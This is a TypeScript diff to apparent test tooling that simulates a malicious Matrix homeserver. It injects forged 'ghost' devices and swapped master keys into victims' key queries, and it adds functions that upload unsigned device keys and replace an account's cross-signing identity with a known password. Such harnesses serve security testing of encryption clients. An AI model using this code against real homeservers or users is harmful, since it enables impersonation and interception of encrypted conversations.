@@ -4,7 +4,10 @@
  */
 import { forgedDevice, forgedIdentity } from "./forged-keys.ts";
 import type { ForgedIdentity, KeyObject, ShownKeys } from "./forged-keys.ts";
-import type { LyingRule } from "./synapse.ts";
+import type { LyingRule, SynapseUser } from "./synapse.ts";
+
+/** Device id of every ghost. */
+export const GHOST = "GHOST";
 
 /** An account in the hands of the homeserver. */
 export interface Account {
@@ -13,9 +16,12 @@ export interface Account {
   readonly accessToken: string;
 }
 
-/** A homeserver that loads the lying module. */
-export interface LyingHomeserver {
+interface Located {
   readonly url: string;
+}
+
+/** A homeserver that loads the lying module. */
+export interface LyingHomeserver extends Located {
   setRules(rules: readonly LyingRule[]): Promise<void>;
 }
 
@@ -35,15 +41,19 @@ export class KeyLies {
   }
 
   /** Shows `readers` a device of the victim that nobody owns; returns once they have been made to look. */
-  async ghostDevice(victim: Account, readers: readonly string[], deviceId = "GHOST"): Promise<Attack> {
-    return await this.#tell(victim, { readers, devices: { [deviceId]: forgedDevice(victim.userId, deviceId) } });
+  async ghostDevice(
+    victim: Account,
+    readers: readonly string[],
+    device: KeyObject = forgedDevice(victim.userId, GHOST),
+  ): Promise<Attack> {
+    return await this.#tell(victim, { readers, devices: { [GHOST]: device } });
   }
 
   /** Shows `readers` another digital identity of the victim, which has signed all devices and one more. */
-  async swappedMasterKey(victim: Account, readers: readonly string[], ghostId = "GHOST"): Promise<Attack> {
+  async swappedMasterKey(victim: Account, readers: readonly string[]): Promise<Attack> {
     const identity = forgedIdentity(victim.userId);
     const { devices } = await this.shownKeys(victim);
-    const shown = { ...devices, [ghostId]: forgedDevice(victim.userId, ghostId) };
+    const shown = { ...devices, [GHOST]: forgedDevice(victim.userId, GHOST) };
     return await this.#tell(victim, { readers, ...underIdentity(identity, shown) });
   }
 
@@ -60,9 +70,9 @@ export class KeyLies {
   }
 
   /** The keys of an account as its homeserver shows them to the account itself. */
-  async shownKeys({ userId, accessToken }: Account): Promise<ShownKeys> {
-    const body = { device_keys: { [userId]: [] } };
-    const answer = (await request(this.#homeserver.url, "POST", "/keys/query", accessToken, body)) as {
+  async shownKeys(account: Account): Promise<ShownKeys> {
+    const { userId } = account;
+    const answer = JSON.parse(await this.keysAnswer(account)) as {
       device_keys: Record<string, Record<string, KeyObject>>;
       master_keys?: Record<string, KeyObject>;
       self_signing_keys?: Record<string, KeyObject>;
@@ -73,6 +83,17 @@ export class KeyLies {
       ...(masterKey === undefined ? {} : { masterKey }),
       ...(selfSigningKey === undefined ? {} : { selfSigningKey }),
     };
+  }
+
+  /** The text of the answer to `/keys/query` that an account gets about itself. */
+  async keysAnswer({ userId, accessToken }: Account): Promise<string> {
+    return await request(this.#homeserver.url, "POST", "/keys/query", accessToken, { device_keys: { [userId]: [] } });
+  }
+
+  /** Ends all lies. */
+  async stop(): Promise<void> {
+    this.#told.clear();
+    await this.#homeserver.setRules([]);
   }
 
   async #tell(victim: Account, shown: Omit<LyingRule, "victim">): Promise<Attack> {
@@ -107,12 +128,35 @@ function underIdentity(
   };
 }
 
-async function request(url: string, method: string, path: string, accessToken: string, body: object): Promise<unknown> {
-  const response = await fetch(`${url}/_matrix/client/v3${path}`, {
+/** Uploads keys for a device that somebody has logged in on, without any identity signing it. */
+export async function uploadDevice(homeserver: Located, account: Account, device: KeyObject): Promise<void> {
+  await request(homeserver.url, "POST", "/keys/upload", account.accessToken, { device_keys: device });
+}
+
+/** Replaces the identity of an account whose password the attacker knows, for everybody. */
+export async function replaceIdentity(homeserver: Located, account: SynapseUser): Promise<void> {
+  const { masterKey, selfSigningKey } = forgedIdentity(account.userId);
+  const body = { master_key: masterKey, self_signing_key: selfSigningKey };
+  const upload = async (more: object): Promise<Response> => {
+    const path = "/keys/device_signing/upload";
+    return await answerOf(homeserver.url, "POST", path, account.accessToken, { ...body, ...more });
+  };
+  const { session } = (await (await upload({})).json()) as { readonly session?: string };
+  const identifier = { type: "m.id.user", user: account.userId };
+  const done = await upload({ auth: { type: "m.login.password", identifier, password: account.password, session } });
+  if (!done.ok) throw new Error(`the identity was not replaced: ${await done.text()}`);
+}
+
+async function request(url: string, method: string, path: string, accessToken: string, body: object): Promise<string> {
+  const response = await answerOf(url, method, path, accessToken, body);
+  if (!response.ok) throw new Error(`${method} ${path}: ${String(response.status)} ${await response.text()}`);
+  return await response.text();
+}
+
+async function answerOf(url: string, method: string, path: string, accessToken: string, body: object): Promise<Response> {
+  return await fetch(`${url}/_matrix/client/v3${path}`, {
     method,
     headers: { authorization: `Bearer ${accessToken}`, "content-type": "application/json" },
     body: JSON.stringify(body),
   });
-  if (!response.ok) throw new Error(`${method} ${path}: ${String(response.status)} ${await response.text()}`);
-  return await response.json();
 }
